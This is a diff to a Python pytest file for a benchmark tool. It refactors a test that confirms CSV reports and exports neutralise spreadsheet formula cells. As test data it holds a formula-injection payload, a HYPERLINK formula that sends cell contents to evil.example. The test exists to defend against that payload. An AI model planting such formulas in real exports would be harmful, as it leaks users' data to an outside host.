@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import io
 import shutil
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -51,9 +52,9 @@ def test_lease_ttl_is_bounded(spec_dir, capsys, sqlite_url, ttl, monkeypatch) ->
     assert code == 2 and "$BENCHFARM_LEASE_TTL_S" in err and "between 3 and 86400" in err, err
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, start) -> None:
-    error = f'{start}=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+def reported_with_error(tmp_path: Path, error: str) -> tuple[pd.DataFrame, pd.DataFrame]:
+    """failures.csv of the report and runs.csv of the export of an experiment whose failed
+    run's error is ``error``, as a spreadsheet would read them."""
     url = f"sqlite:///{tmp_path}/store.db"
     with Store.open(url) as store:
         refs = add_refs(store, experiment="e1")
@@ -61,8 +62,14 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, start) -> N
         store.save_run(sample_result(refs, "b" * 64, status="failed", exit_code=3, error=error))
         render_report(store, "e1", tmp_path / "report")
         export(store, "e1", "csv", tmp_path / "export")
-    failures = pd.read_csv(tmp_path / "report" / "failures.csv", keep_default_na=False)
-    runs = pd.read_csv(tmp_path / "export" / "runs.csv", keep_default_na=False)
+    return (pd.read_csv(tmp_path / "report" / "failures.csv", keep_default_na=False),
+            pd.read_csv(tmp_path / "export" / "runs.csv", keep_default_na=False))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, start) -> None:
+    error = f'{start}=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    failures, runs = reported_with_error(tmp_path, error)
     for cells in (failures["error"], runs.loc[runs["status"] == "failed", "error"]):
         (cell,) = cells.tolist()
         assert cell.startswith("'") and cell[1:].strip() == error.strip(), cell
